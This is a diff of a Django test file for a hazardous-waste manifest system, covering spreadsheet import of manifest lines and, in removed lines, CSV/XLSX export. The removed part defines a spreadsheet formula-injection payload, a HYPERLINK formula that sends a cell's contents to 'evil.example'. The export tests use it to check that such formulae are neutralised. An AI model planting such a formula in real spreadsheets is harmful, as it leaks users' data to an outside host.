@@ -1,32 +1,24 @@
-"""Excel: the line template, importing lines into a draft (preview, errors, confirm), and the export."""
+"""Importing manifest lines from a spreadsheet: the template, the preview with its errors, the confirmation."""
 
-import csv
 import io
-import sys
-import types
-from datetime import date, datetime
+from datetime import date
 from decimal import Decimal
 
 import openpyxl
 import pytest
 from django.core import signing
 from django.core.files.uploadedfile import SimpleUploadedFile
-from django.db import connection
-from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
-from django.utils import timezone
-from django.utils.translation import gettext
 
 from accounts.models import AuditEvent
-from manifests import excel, services
-from manifests.models import Status
+from catalog.codes import normalise_waste_code
+from manifests import line_import, services
 from manifests.views.excel import detail_url
+from tests import factories
 from tests.factories import PASSWORD
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 
-
-def xlsx(rows, headers=excel.COLUMNS):
+def xlsx(rows, headers=line_import.COLUMNS):
     book = openpyxl.Workbook()
     sheet = book.active
     sheet.append(list(headers))
@@ -69,7 +61,7 @@ def test_the_template_is_an_xlsx_with_the_machine_headers_and_a_help_sheet(clien
     assert "attachment" in response["Content-Disposition"]
     book = openpyxl.load_workbook(io.BytesIO(response.content))
     lines_sheet, help_sheet = book.worksheets
-    assert [cell.value for cell in lines_sheet[1]] == list(excel.COLUMNS)
+    assert [cell.value for cell in lines_sheet[1]] == list(line_import.COLUMNS)
     assert lines_sheet.max_row == 1  # no sample row that could be imported by mistake
     help_text = " ".join(str(cell.value) for row in help_sheet.iter_rows() for cell in row if cell.value)
     for expected in ("solid", "rắn", "lỏng", "bùn", "khí", "drum", "thùng phuy", "125.5", "125,5"):
@@ -133,7 +125,7 @@ def test_a_csv_saved_by_excel_in_vietnamese_is_read(client, chain):
     w = chain
     manifest = w.draft()
     client.force_login(w.alice)
-    text = ";".join(excel.COLUMNS) + "\r\n17 02 03;Dầu thải;lỏng;phuy;1;125,5\r\n16 01 06;Bóng đèn;rắn;hộp;2;1.250\r\n"
+    text = ";".join(line_import.COLUMNS) + "\r\n17 02 03;Dầu thải;lỏng;phuy;1;125,5\r\n16 01 06;Bóng đèn;rắn;hộp;2;1.250\r\n"
     response = upload(client, manifest, text.encode("utf-8-sig"), name="lines.csv")
     assert response.status_code == 200
     rows = response.context["rows"]
@@ -153,18 +145,18 @@ def test_a_csv_saved_by_excel_in_vietnamese_is_read(client, chain):
     ],
 )
 def test_quantities_accept_both_decimal_separators(typed, expected):
-    assert excel.parse_quantity(typed) == Decimal(expected)
+    assert line_import.parse_quantity(typed) == Decimal(expected)
 
 
 @pytest.mark.parametrize("typed", ["-5", "0", "abc", "1.2.3", "12,3456", "0,125", "1e5", "", None, True])
 def test_bad_quantities_are_refused(typed):
     with pytest.raises(ValueError):
-        excel.parse_quantity(typed)
+        line_import.parse_quantity(typed)
 
 
 @pytest.mark.parametrize(("typed", "expected"), [("170203", "17 02 03"), ("17 02 03", "17 02 03"), (170203, "17 02 03"), (10101, "01 01 01"), ("17-02-03", "17 02 03"), ("abc", None)])
 def test_waste_codes_are_normalised(typed, expected):
-    assert excel.normalise_waste_code(typed) == expected
+    assert normalise_waste_code(typed) == expected
 
 
 def test_the_number_format_does_not_depend_on_the_language(client, chain, settings):
@@ -175,6 +167,24 @@ def test_the_number_format_does_not_depend_on_the_language(client, chain, settin
         client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
         response = upload(client, manifest, xlsx([("17 02 03", "Dầu", "liquid", "drum", 1, "125,5"), ("17 02 03", "Dầu", "liquid", "drum", 1, "125.5")]))
         assert [row.values["quantity_kg"] for row in response.context["rows"]] == [Decimal("125.50"), Decimal("125.50")]
+
+
+def test_the_preview_warns_about_codes_the_permit_does_not_cover_by_code_text(client, chain):
+    """The permit lists codes of an older catalogue version: a code keeps its meaning, so 17 02 03 of the
+    current version is covered (Permit.uncovered_codes), and only 19 06 01 gets the warning."""
+    w = chain
+    manifest = w.draft()
+    newer = factories.CatalogVersionFactory(label="newer", effective_date=date(2023, 1, 1))
+    for old in (w.oil, w.lamps, w.unpermitted):
+        factories.WasteCodeFactory(version=newer, code=old.code, chapter=old.chapter, physical_states=old.physical_states)
+    client.force_login(w.alice)
+    rows = [("17 02 03", "Dầu thải", "liquid", "drum", 1, "10"), ("19 06 01", "Ắc quy", "liquid", "drum", 1, "10")]
+    response = upload(client, manifest, xlsx(rows))
+    oil, battery = response.context["rows"]
+    assert oil.values["waste_code"].version == newer and oil.ok and battery.ok
+    assert oil.warnings == []
+    assert len(battery.warnings) == 1 and w.permit.number in battery.warnings[0] and "19 06 01" in battery.warnings[0]
+    assert response.context["payload"]  # a warning, not an error: the lines may still be imported
 
 
 # --- import: errors ----------------------------------------------------------------------------------
@@ -263,7 +273,7 @@ def test_a_confirmation_by_another_user_is_refused(client, chain):
 @pytest.mark.parametrize(
     ("content", "name", "message"),
     [
-        (b"\x00" * (excel.MAX_UPLOAD_BYTES + 1), "big.xlsx", "2 MB"),
+        (b"\x00" * (line_import.MAX_UPLOAD_BYTES + 1), "big.xlsx", "2 MB"),
         (b"not a spreadsheet", "lines.xlsx", "XLSX"),
         (b"hello", "lines.pdf", "XLSX"),
     ],
@@ -282,7 +292,7 @@ def test_more_than_500_rows_or_missing_columns_are_refused(client, chain):
     w = chain
     manifest = w.draft()
     client.force_login(w.alice)
-    many = [("17 02 03", "Dầu", "liquid", "drum", 1, "1")] * (excel.MAX_IMPORT_ROWS + 1)
+    many = [("17 02 03", "Dầu", "liquid", "drum", 1, "1")] * (line_import.MAX_IMPORT_ROWS + 1)
     response = upload(client, manifest, xlsx(many))
     assert "500" in " ".join(response.context["form"].errors["file"])
     response = upload(client, manifest, xlsx([("17 02 03", "Dầu")], headers=("waste_code", "description")))
@@ -317,135 +327,3 @@ def test_outsiders_get_404_and_viewers_403(client, chain):
     assert client.get(url).status_code == 403
     assert upload(client, manifest, xlsx(GOOD_ROWS)).status_code == 403
     assert manifest.lines.count() == 2
-
-
-# --- export ------------------------------------------------------------------------------------------
-
-
-@pytest.fixture
-def exported(chain):
-    """Two Alpha manifests (one signed), Alpha named like a formula, and a Zeta draft Alpha cannot see."""
-    w = chain
-    w.alpha.name = HYPERLINK
-    w.alpha.save()
-    w.signed = services.sign(w.alice, w.draft(), PASSWORD)
-    w.draft_hn = w.draft(lines=[w.line(quantity="10")])
-    w.zeta_draft = w.draft(actor=w.zoe, site=w.zeta_site)
-    return w
-
-
-def export(client, **params):
-    return client.get(reverse("manifests:export"), params)
-
-
-def test_the_xlsx_export_has_the_visible_manifests_with_numbers_dates_and_no_formulae(client, exported):
-    w = exported
-    client.force_login(w.alice)
-    response = export(client, format="xlsx")
-    assert response.status_code == 200
-    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
-    assert response["Content-Disposition"].startswith('attachment; filename="hwms-manifests-')
-    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
-    rows = list(sheet.iter_rows(min_row=2))
-    by_number = {row[0].value: row for row in rows}
-    assert set(by_number) == {w.signed.number, w.draft_hn.number}  # not Zeta's draft
-    row = by_number[w.signed.number]
-    _, status, created, pickup, generator, site, province, transporter, facility, total, discrepancy, completed = row
-    assert generator.value == "'" + HYPERLINK and generator.data_type == "s"
-    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
-    assert status.value == str(Status.READY.label)
-    assert total.data_type == "n" and total.value == pytest.approx(140.5)
-    assert isinstance(created.value, datetime) and created.number_format == "DD/MM/YYYY"
-    assert created.value.date() == timezone.localdate()
-    assert pickup.value.date() == w.signed.planned_pickup_date and pickup.number_format == "DD/MM/YYYY"
-    assert (site.value, province.value, transporter.value, facility.value) == ("Alpha Hà Nội", "Thành phố Hà Nội", "Omega", "Omega")
-    assert completed.value is None
-    assert discrepancy.value == gettext("No")
-    assert by_number[w.draft_hn.number][9].value == 10
-
-
-def test_the_csv_export_has_a_bom_point_decimals_dates_and_escaped_formulae(client, exported):
-    w = exported
-    client.force_login(w.alice)
-    response = export(client, format="csv")
-    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
-    assert response.content.startswith(b"\xef\xbb\xbf")
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
-    assert len(rows) == 3
-    by_number = {row[0]: row for row in rows[1:]}
-    assert set(by_number) == {w.signed.number, w.draft_hn.number}
-    row = by_number[w.signed.number]
-    assert row[4] == "'" + HYPERLINK
-    assert row[9] == "140.50" and by_number[w.draft_hn.number][9] == "10.00"
-    assert row[2] == timezone.localdate().strftime("%d/%m/%Y")
-    assert row[3] == w.signed.planned_pickup_date.strftime("%d/%m/%Y")
-    assert "Hà Nội" in row[5]
-
-
-def test_the_export_applies_the_list_filters(client, exported):
-    w = exported
-    client.force_login(w.alice)
-    rows = list(csv.reader(io.StringIO(export(client, format="csv", status=Status.DRAFT).content.decode("utf-8-sig"))))
-    assert [row[0] for row in rows[1:]] == [w.draft_hn.number]
-
-
-def test_the_export_uses_the_list_filterset_when_there_is_one(client, exported, monkeypatch):
-    import django_filters
-
-    from manifests.models import Manifest
-
-    class ManifestFilter(django_filters.FilterSet):
-        q = django_filters.CharFilter(field_name="number", lookup_expr="exact")
-
-        class Meta:
-            model = Manifest
-            fields = ()
-
-    module = types.ModuleType("manifests.filters")
-    module.ManifestFilter = ManifestFilter
-    monkeypatch.setitem(sys.modules, "manifests.filters", module)
-    w = exported
-    client.force_login(w.alice)
-    for number, expected in ((w.signed.number, [w.signed.number]), (w.zeta_draft.number, [])):
-        rows = list(csv.reader(io.StringIO(export(client, format="csv", q=number).content.decode("utf-8-sig"))))
-        assert [row[0] for row in rows[1:]] == expected  # filtered, and still only what Alpha sees
-
-
-def test_others_export_only_what_they_see(client, exported):
-    w = exported
-    client.force_login(w.zoe)
-    rows = list(csv.reader(io.StringIO(export(client, format="csv").content.decode("utf-8-sig"))))
-    assert [row[0] for row in rows[1:]] == [w.zeta_draft.number]
-    client.force_login(w.fred)  # the facility sees the signed manifest, not Alpha's drafts
-    rows = list(csv.reader(io.StringIO(export(client, format="csv").content.decode("utf-8-sig"))))
-    assert [row[0] for row in rows[1:]] == [w.signed.number]
-
-
-def test_the_export_is_bounded(client, exported, settings, monkeypatch):
-    w = exported
-    monkeypatch.setattr(excel, "EXPORT_LIMIT", 1)
-    client.force_login(w.alice)
-    response = export(client, format="xlsx")
-    assert response.status_code == 302
-    assert "xlsx" not in response.get("Content-Type", "")
-
-
-def test_the_number_of_queries_does_not_grow_with_the_manifests(client, chain, django_assert_max_num_queries):
-    w = chain
-    w.draft()
-    client.force_login(w.alice)
-    for fmt in ("xlsx", "csv"):
-        with CaptureQueriesContext(connection) as few:
-            assert export(client, format=fmt).status_code == 200
-        for _ in range(10):
-            w.draft(lines=[w.line(quantity="1.5"), w.line(w.lamps, "2")])
-        with django_assert_max_num_queries(len(few.captured_queries)):
-            response = export(client, format=fmt)
-        assert response.status_code == 200
-
-
-def test_export_dates_are_day_first(chain):
-    assert excel.CSVExport._text(date(2026, 3, 4)) == "04/03/2026"
-    assert excel.CSVExport._text(Decimal("1250.5")) == "1250.50"
-    assert excel.neutralise("+1-555") == "'+1-555" and excel.neutralise("@SUM(A1)") == "'@SUM(A1)"
-    assert excel.neutralise("Công ty A") == "Công ty A" and excel.neutralise(Decimal(-1)) == Decimal(-1)
